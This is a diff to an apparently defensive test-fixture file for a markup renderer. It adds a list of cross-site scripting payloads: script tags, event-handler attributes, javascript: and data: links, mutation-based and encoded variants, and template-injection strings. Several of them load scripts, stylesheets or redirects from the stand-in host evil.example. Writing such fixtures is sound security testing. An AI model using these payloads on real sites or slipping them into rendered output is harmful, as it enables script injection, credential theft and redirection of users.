@@ -108,7 +108,43 @@ ENDLESS = {
 
 """Markdown that renderers of others work at for minutes."""
 
+RUNNING = (
+    # each sets window.ran, or loads something, where a browser takes it for mark-up
+    *(
+        "<script>ran=1</script>",
+        "<ScRiPt src=//evil.example/a.js></sCrIpT>",
+        "<svg/onload=ran=1>",
+        "<img src=x onerror=ran=1>",
+    ),
+    *("</textarea><script>ran=1</script>", "</title><script>ran=1</script>", "--><script>ran=1</script>"),
+    *('"><script>ran=1</script>', "' autofocus onfocus=ran=1 x='", '" onmouseover=ran=1 x="', "`onclick=ran=1`"),
+    *(
+        "<style>@import '//evil.example/a.css'; *{display:none}</style>",
+        "<link rel=stylesheet href=//evil.example/a.css>",
+    ),
+    *(
+        "<iframe srcdoc='<script>parent.ran=1</script>'></iframe>",
+        "<object data='data:text/html,<script>ran=1</script>'>",
+    ),
+    *(
+        "<meta http-equiv=refresh content='0;url=//evil.example'>",
+        "<base href=//evil.example/>",
+        "<embed src=//evil.example>",
+    ),
+    *("<form action=//evil.example><button>Ask", "<input autofocus onfocus=ran=1>", "<details open ontoggle=ran=1>"),
+    *("<svg><script>ran=1</script></svg>", "<math><mtext></form><form><mglyph><style></math><img src onerror=ran=1>"),
+    *(
+        "[x](JaVaScRiPt:ran=1)",
+        "[x](data:text/html;base64,PHNjcmlwdD5yYW49MTwvc2NyaXB0Pg==)",
+        "<a href='java\tscript:ran=1'>",
+    ),
+    *("<template><script>ran=1</script></template>", "<noscript><p title='</noscript><img src=x onerror=ran=1>'>"),
+    *("&lt;script&gt;ran=1&lt;/script&gt;", "\u003cscript\u003eran=1\u003c/script\u003e", "＜script＞ran=1＜/script＞"),
+    *("{{constructor.constructor('ran=1')()}}", "${ran=1}", "<video><source onerror=ran=1>", "<body onload=ran=1>"),
+)
+
 MARKUP: Mapping[str, str] = {
+    **{f"running {ascii(each)[:60]}": f"The answer {each} is here." for each in RUNNING},
     **{f"mark-up {ascii(each)[:60]}": f"The answer {each} is here." for each in (*SLACK, *TEAMS, *URLS)},
     **{f"a text {ascii(each)[:60]}": each for each in LOOKING_LIKE},
 }
